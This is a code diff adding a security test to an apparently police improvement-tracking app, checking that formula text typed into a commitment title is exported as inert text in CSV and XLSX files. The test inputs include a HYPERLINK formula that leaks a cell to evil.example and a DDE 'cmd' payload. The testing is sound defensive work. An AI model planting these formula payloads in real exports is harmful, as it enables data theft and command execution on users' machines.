@@ -32,9 +32,11 @@ from improvement_tracker.services import (
 from improvement_tracker.services.outcome_catalogue import CATALOGUE
 from tests import factories, files
 from tests.security.conftest import (
+    COMMITMENTS,
     OWN,
     World,
     browser,
+    commitment_form,
     latest_version,
     make_reviewable,
     methods,
@@ -82,6 +84,8 @@ LISTS = [
     ("evidence.awaiting_review_export", {"code": OWN}),
     ("notifications.ledger_export", {"code": OWN}),
     ("returns.national_export", {}),
+    # The force-by-force table of the commitment published to the home force alone: the force's name.
+    ("commitments.export", {"reference": COMMITMENTS[OWN][0]}),
 ]
 # Who downloads each list (the force's programme manager unless said).
 DOWNLOADER = {"plans.my_actions_export": "action_owner", "plans.forces_export": "admin",
@@ -293,3 +297,24 @@ def test_a_measure_name_an_administrator_types_as_a_formula_is_text_in_every_out
             cells = _cells(admin.client.get(f"{url}.{fmt}?measure=charges"), fmt)
             assert _runnable(cells) == [], f"{url}.{fmt}"
             assert "'" + typed in cells, f"{url}.{fmt}: the name is not there as text"
+
+
+def test_a_commitment_title_the_national_team_types_as_a_formula_is_text_in_every_download(app, world):
+    """Through the national team's form, as a person would type it: published to the home force, the
+    title is its linked action's, so the force's plan export carries it, behind an apostrophe; the
+    commitment's own force-by-force table (force, standing, RAG, due date, owner) runs nothing either."""
+    typed = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+    oversight = browser(app, world.oversight)
+    oversight.post("/commitments/new", commitment_form(world.own, "NC-30", title=typed,
+                                                       description="+cmd|' /C calc'!A0"))
+    oversight.post("/commitments/NC-30/publish", {})
+    db.session.expire_all()
+    assert db.session.scalar(sa.select(Action.title).where(Action.reference == "NC-30")) == typed
+    pm = browser(app, world.own.pm)
+    for fmt in ("csv", "xlsx"):
+        for person, url in ((oversight, f"/commitments/NC-30/forces.{fmt}"), (pm, f"/commitments/NC-30/forces.{fmt}"),
+                            (pm, f"/forces/{OWN}/plan.{fmt}"), (pm, f"/my-actions.{fmt}")):
+            cells = _cells(person.client.get(url), fmt)
+            assert _runnable(cells) == [], f"{url}: {_runnable(cells)}"
+        plan = _cells(pm.client.get(f"/forces/{OWN}/plan.{fmt}"), fmt)
+        assert "'" + typed in plan, f"the commitment's title is not in the {fmt} plan export as text"
